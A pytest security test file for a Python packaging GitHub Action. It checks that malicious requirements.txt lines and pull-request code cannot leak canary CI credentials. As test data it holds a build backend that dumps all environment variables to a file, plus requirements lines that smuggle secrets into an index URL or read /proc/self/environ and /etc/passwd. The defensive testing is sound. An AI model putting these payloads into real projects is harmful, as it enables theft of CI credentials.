"""The attacks a pull request can make through a consumer's requirements.txt, replayed.

Every test runs with the credentials' variables set to canary values (in the job's env and in
this process, which pip would inherit): none may appear in any output, comment, summary or
file under the test's folder, and no code from the pull request may run.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from nami_action.errors import NamiError
from nami_action.package import build_artifact

from .github_fakes import FakeGitHub
from .test_flow import pr_event, run_job, workspace

__all__ = ["workspace"]  # the fixture, imported for its name

CANARIES = {
    "AWS_ACCESS_KEY_ID": "AKIACANARY0000000001",
    "AWS_SECRET_ACCESS_KEY": "canary-secret-access-key-1f3a",
    "AWS_SESSION_TOKEN": "canary-session-token-9b2c",
    "GITHUB_TOKEN": "ghs_canarygithubtoken000",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "canary-oidc-request-token",
    "ACTIONS_RUNTIME_TOKEN": "canary-runtime-token",
    "INPUT_GITHUB_TOKEN": "ghs_canaryinputtoken000",
}

# A build backend inside the repository (backend-path = ["."]): building it runs its code.
EVIL_PYPROJECT = """\
[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]
"""
EVIL_BACKEND = """\
import json, os, pathlib
pathlib.Path(__file__).with_name("STOLEN").write_text(json.dumps(dict(os.environ)))
"""


@pytest.fixture
def canaries(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    return CANARIES


def leaked(text: str) -> list[str]:
    return [name for name, value in CANARIES.items() if value in text]


def files_leaking(root: Path) -> list[str]:
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            text = path.read_bytes().decode("utf-8", "replace")
            found += [f"{path}: {name}" for name in leaked(text)]
    return found


def consumer(workspace: Path) -> Path:
    return workspace / "infra" / "consumers" / "github"


def plan_pr(workspace: Path, github_api: FakeGitHub) -> tuple[int, str]:
    """The plan job of a same-repository pull request, with the canaries as its env."""
    run = run_job(workspace, github_api, "pull_request", pr_event())
    comments = json.dumps(github_api.comments)
    everything = "\n".join([run.stdout, run.summary, json.dumps(run.outputs), comments])
    assert not leaked(everything), leaked(everything)
    assert not files_leaking(workspace.parent)
    return run.code, everything


def test_a_build_backend_folder_never_runs(
    workspace: Path, github_api: FakeGitHub, canaries: dict[str, str]
) -> None:
    evil = workspace / "tools" / "evil"
    evil.mkdir(parents=True)
    (evil / "pyproject.toml").write_text(EVIL_PYPROJECT)
    (evil / "evil_backend.py").write_text(EVIL_BACKEND)
    (consumer(workspace) / "requirements.txt").write_text("six==1.16.0\n../../../tools/evil\n")
    code, everything = plan_pr(workspace, github_api)
    assert code == 1
    assert "infra/consumers/github/requirements.txt:2:1" in everything
    assert "a local path is not allowed" in everything
    assert not (evil / "STOLEN").exists()
    # The package step refuses it too, for a caller that skipped validate.
    with pytest.raises(NamiError, match=r"requirements.txt:2:1: a local path"):
        build_artifact(
            consumer(workspace), architecture="arm64", python="3.12", cache_dir=workspace / "c"
        )
    assert not (evil / "STOLEN").exists()


@pytest.mark.parametrize(
    "line",
    [
        "${AWS_SESSION_TOKEN}",
        "--index-url https://example.invalid/${AWS_SECRET_ACCESS_KEY}/",
        "-r /proc/self/environ",
        "-r /etc/passwd",
        "-e ../../../outside-pkg",
    ],
)
def test_a_requirements_line_cannot_reveal_the_environment(
    workspace: Path, github_api: FakeGitHub, canaries: dict[str, str], line: str
) -> None:
    outside = workspace / "outside-pkg"
    outside.mkdir()
    (outside / "setup.py").write_text("import os\nopen('RAN', 'w').write('ran')\n")
    (consumer(workspace) / "requirements.txt").write_text(f"six==1.16.0\n{line}\n")
    code, everything = plan_pr(workspace, github_api)
    assert code == 1
    assert "infra/consumers/github/requirements.txt:2:" in everything
    assert "root:" not in everything  # nothing quoted from a file the line names
    assert sorted(p.name for p in outside.iterdir()) == ["setup.py"]  # not built in place


def test_pip_gets_an_allow_listed_environment(
    tmp_path: Path, canaries: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (code / "app.py").write_text("pass\n")
    (code / "requirements.txt").write_text("six==1.16.0\n")
    seen = tmp_path / "seen.json"
    monkeypatch.setenv("PYTHONPATH", str(code))
    monkeypatch.setenv("PIP_INDEX_URL", "https://example.invalid/simple")
    spy = (
        sys.executable,
        "-c",
        "import json, os, sys; json.dump({'env': dict(os.environ), 'argv': sys.argv, "
        f"'cwd': os.getcwd()}}, open({str(seen)!r}, 'w')); sys.exit(3)",
    )
    with pytest.raises(NamiError, match="pip could not install"):
        build_artifact(
            code, architecture="arm64", python="3.12", cache_dir=tmp_path / "c", pip_command=spy
        )
    record = json.loads(seen.read_text())
    names = set(record["env"])
    assert not {n for n in names if n.startswith(("AWS_", "ACTIONS_", "INPUT_", "GITHUB_"))}
    assert not {"PYTHONPATH", "PIP_INDEX_URL"} & names
    assert "--isolated" in record["argv"]
    assert not Path(record["cwd"]).resolve().is_relative_to(code.resolve())


def test_a_pip_module_in_the_consumer_folder_is_not_imported(tmp_path: Path) -> None:
    """`python -m pip` puts the working folder first on sys.path; nami's pip runs with -I
    in an empty folder, so the consumer's own `pip.py` is packaged, never run."""
    code = tmp_path / "code"
    code.mkdir()
    marker = tmp_path / "RAN"
    (code / "pip.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    (code / "requirements.txt").write_text("six==1.16.0\n")
    artifact = build_artifact(code, architecture="arm64", python="3.12", cache_dir=tmp_path / "c")
    assert artifact.size > 0
    assert not marker.exists()
